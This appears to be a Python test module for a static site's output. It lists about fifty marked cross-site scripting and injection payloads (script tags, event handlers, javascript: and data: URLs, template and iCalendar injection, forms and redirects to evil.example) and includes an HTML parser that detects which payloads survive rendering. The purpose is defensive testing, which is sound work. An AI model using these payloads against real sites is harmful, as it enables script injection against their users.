"""Hostile text for the site tests: what an attacker could type into an event file or an article.

Every payload carries a marker XSSnn, so that a check can tell an attacker's markup from the
theme's own. HtmlCensus reads a page with the standard HTML parser (as a browser would tokenise
it) and lists what could run: event-handler attributes, script-capable URL schemes, scripts,
styles and comments that hold a marker, and every tag and attribute name, to compare with a
twin site built from harmless text.
"""

from __future__ import annotations

import html
import re
from collections import defaultdict
from html.parser import HTMLParser

PAYLOADS = [
    ("script tag", '<script>alert("XSS01")</script>'),
    ("img onerror", '<img src=x onerror=alert("XSS02")>'),
    ("svg onload", "<svg onload=alert('XSS03')>"),
    ("iframe with javascript:", "<iframe src=\"javascript:alert('XSS04')\"></iframe>"),
    ("Markdown javascript: link", '[click](javascript:alert("XSS05"))'),
    ("mixed-case scheme", '[click](JaVaScRiPt:alert("XSS06"))'),
    ("entity-hidden scheme", '[click](java&#x09;script:alert("XSS07"))'),
    ("autolink with javascript:", '<javascript:alert("XSS08")>'),
    ("image attribute breakout", "![x](x\" onerror=\"alert('XSS09'))"),
    ("reference-style javascript: link", '[ref][r]\n\n[r]: javascript:alert("XSS10")'),
    ("Jinja expression", "{{ 7*7 }} {{ config }} XSS11"),
    ("Jinja statement", "{% for x in range(3) %}XSS12{% endfor %}"),
    ("attr_list injection", "Para{: onclick=\"alert('XSS13')\" }"),
    ("attr_list on a heading", "# Head XSS14 { onclick=alert(1) }"),
    ("pre-escaped script", '&lt;script&gt;alert("XSS15")&lt;/script&gt;'),
    ("unclosed comment", "<!-- XSS16"),
    ("attribute breakout", '"><script>alert("XSS17")</script>'),
    ("single-quote breakout", "' onmouseover='alert(\"XSS18\")"),
    ("data: URL link", "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) XSS19"),
    ("vbscript: link", '<a href="vbscript:msgbox(XSS20)">x</a>'),
    ("style element", "<style>body{display:none}</style>XSS21"),
    ("mutation XSS", '<math><mtext><table><mglyph><style><img src=x onerror=alert("XSS22")>'),
    ("base tag", '<base href="https://evil.example/">XSS23'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">XSS24'),
    ("form", '<form action="https://evil.example"><input name=XSS25></form>'),
    ("textarea breakout", '</textarea><script>alert("XSS26")</script>'),
    ("title breakout", '</title><script>alert("XSS27")</script>'),
    ("CDATA end", ']]><script>alert("XSS28")</script>'),
    ("bidi override, zero-width, line separators", "\u202eXSS29\u200b\u2028line\u2029para"),
    ("numeric entities", "&#60;script&#62;alert('XSS30')&#60;/script&#62;"),
    ("HTML block in Markdown", '\n<script>\nalert("XSS31")\n</script>\n'),
    ("javascript: with spaces", "[x]( javascript:alert('XSS32') )"),
    ("link title breakout", "[x](https://ok.example \"t\\\" onmouseover=\\\"alert('XSS33')\")"),
    ("object and embed", "<object data=\"javascript:alert('XSS34')\"></object><embed src=\"javascript:alert(1)\">"),
    ("SVG xlink:href", "<svg><a xlink:href=\"javascript:alert('XSS35')\"><text>x</text></a></svg>"),
    ("formaction", "<button formaction=\"javascript:alert('XSS36')\">x</button>"),
    ("style attribute", "<p style=\"background:url(javascript:alert('XSS37'))\">x</p>"),
    ("iCalendar line injection", "A XSS38\r\nBEGIN:VEVENT\r\nSUMMARY:injected\rEND:VEVENT\n"),
    ("C1 controls and non-characters", "XSS39 \x85\x9b31m \ufdd0 \U0010ffff"),
    ("spreadsheet formula", '=HYPERLINK("https://evil.example","XSS40")'),
]

URLS = [
    ("javascript: URL", "javascript:alert('XSS41')"),
    ("javascript: URL with spaces and case", " JaVaScRiPt:alert('XSS42')"),
    ("javascript: URL with a tab", "java\tscript:alert('XSS43')"),
    ("data: URL", "data:text/html,<script>alert('XSS44')</script>"),
    ("vbscript: URL", "vbscript:msgbox('XSS45')"),
    ("https URL with an attribute breakout", "https://ok.example/\"onmouseover=\"alert('XSS46')"),
    ("https URL with Markdown breakout", "https://ok.example/)](javascript:alert('XSS47'))"),
    ("https URL with angle brackets", "https://ok.example/<script>alert('XSS48')</script>"),
    ("protocol-relative URL", "//evil.example/XSS49"),
]

MARKER = re.compile(r"XSS\d\d")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite", "srcset"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# What Markdown makes of a summary ("*x*", "![alt](src)", "# Head"): formatting the summary may use.
MARKDOWN_TAGS = {"a", "img", "em", "strong", "code", "pre", "p", "br", "hr", "blockquote", "ul", "ol", "li",
                 "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
MARKDOWN_ATTRIBUTES = {"a": {"href", "title"}, "img": {"alt", "src", "title"}, **{f"h{n}": {"id"} for n in range(1, 7)}}


def scheme_of(url: str) -> str:
    compact = re.sub(r"[\x00-\x20]+", "", html.unescape(url)).lower()
    head = compact.split("/", 1)[0]
    return head.split(":", 1)[0] if ":" in head else ""


class HtmlCensus(HTMLParser):
    """What one HTML document holds, as a browser would tokenise it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: dict[str, set[str]] = defaultdict(set)
        self.dangers: list[str] = []
        self.text: list[str] = []
        self._raw: list[str] = []  # the open <script> or <style>

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes[tag].add(name)
            if name.startswith("on"):
                self.dangers.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and value and scheme_of(value) not in SAFE_SCHEMES | {""}:
                self.dangers.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and ("javascript" in value.lower() or MARKER.search(value)):
                self.dangers.append(f"<{tag} style={value!r}>")
        if tag in ("script", "style"):
            self._raw.append(tag)
            if MARKER.search(" ".join(v or "" for _, v in attrs)):
                self.dangers.append(f"<{tag}> with a payload attribute")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if self._raw and tag == self._raw[-1]:
            self._raw.pop()

    def handle_data(self, data):
        if self._raw and MARKER.search(data):
            self.dangers.append(f"<{self._raw[-1]}> holding {MARKER.search(data).group(0)}")
        elif not self._raw:
            self.text.append(data)

    def handle_comment(self, data):
        if MARKER.search(data):
            self.dangers.append(f"a comment hides {MARKER.search(data).group(0)}")


def census(page_html: str) -> HtmlCensus:
    parser = HtmlCensus()
    parser.feed(page_html)
    parser.close()
    return parser
